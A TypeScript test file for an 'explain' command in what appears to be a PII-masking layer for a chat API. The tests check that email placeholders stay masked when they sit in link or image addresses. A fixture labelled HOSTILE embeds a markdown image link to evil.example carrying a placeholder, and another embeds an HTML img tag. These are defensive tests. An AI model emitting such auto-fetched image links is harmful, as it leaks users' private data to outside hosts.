import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable, Writable } from 'node:stream'
import { describe, it } from 'node:test'
import { explain } from '../../../../src/commands/explain/explain.ts'
import type { ExplainedAnswer } from '../../../../src/commands/explain/answer.ts'

async function run(answer: string, values: Record<string, string | boolean> = {}): Promise<string> {
  let out = ''
  const stdout = new Writable({
    write(chunk: Buffer, _encoding, done) {
      out += chunk.toString()
      done()
    },
  })
  const code = await explain.run({
    values: { path: 'POST:/v1/chat-messages', answer: '-', ...values },
    positionals: [],
    stdin: Readable.from([Buffer.from(answer)]),
    stdout,
    stderr: stdout,
    env: {},
  })
  assert.equal(code, 0)
  return out
}

const explained = async (answer: string): Promise<ExplainedAnswer> =>
  JSON.parse(await run(answer, { json: true })) as ExplainedAnswer

const HOSTILE = 'xin chào EMAIL_1\n![x](https://evil.example/?EMAIL_1)'

describe('explain --answer', () => {
  it('shows each placeholder of a text with its line and column, and why it stays', async () => {
    assert.equal(
      await run(HOSTILE),
      `answer    text, 1 of 2 placeholders restored
  line 1, column 10        EMAIL_1        restored
  line 2, column 28        EMAIL_1        stays (link_target): in the address of a link or picture, which a client may fetch by itself
`,
    )
  })

  it('reads a file', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'dify-masking-explain-'))
    try {
      const file = join(folder, 'answer.md')
      writeFileSync(file, HOSTILE)
      assert.equal(await run('', { answer: file }), await run(HOSTILE))
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  })

  it('names the field of a JSON answer', async () => {
    const { kind, placeholders } = await explained(
      JSON.stringify({
        event: 'message',
        answer: HOSTILE,
        metadata: { note: '<img src=EMAIL_2>' },
      }),
    )
    assert.equal(kind, 'json')
    assert.deepEqual(
      placeholders.map(({ at, placeholder, reason }) => [at, placeholder, reason]),
      [
        ['answer', 'EMAIL_1', undefined],
        ['answer', 'EMAIL_1', 'link_target'],
        ['metadata.note', 'EMAIL_2', 'html'],
      ],
    )
  })

  it('joins the events of a stream as a client does', async () => {
    const event = (answer: string, node: string): string =>
      `data: ${JSON.stringify({ event: 'message', message_id: 'm-1', answer, from_variable_selector: [node] })}\n\n`
    const { kind, placeholders } = await explained(
      event('to EMAIL_1 ![x](https://evil.example/?', 'a') + event('EMAIL_1) done', 'b'),
    )
    assert.equal(kind, 'event stream')
    assert.deepEqual(
      placeholders.map(({ at, restored }) => [at, restored]),
      [
        ['event 1', true],
        ['event 2', false],
      ],
    )
  })

  it('says of each example in the documentation what it says there', async () => {
    const page = readFileSync(new URL('../../../../docs/security.md', import.meta.url), 'utf8')
    let examples = 0
    for (const [, cell = '', outcome = '', reason] of page.matchAll(ROW)) {
      for (const [, , example = ''] of cell.replaceAll('\\|', '|').matchAll(CODE)) {
        const [found] = (await explained(example)).placeholders
        if (found === undefined) continue
        examples++
        assert.equal(found.restored, outcome === 'restored', example)
        assert.equal(found.reason, reason, example)
      }
    }
    assert.ok(examples >= 15, String(examples))
  })
})

/** A row of the table of places: what an answer has, `restored` or `stays`, the reason. */
const ROW = /^\| (.*) \| (restored|stays) \| (?:`(\w+)` )?\|$/gm
const CODE = /(`+) ?(.+?) ?\1/g
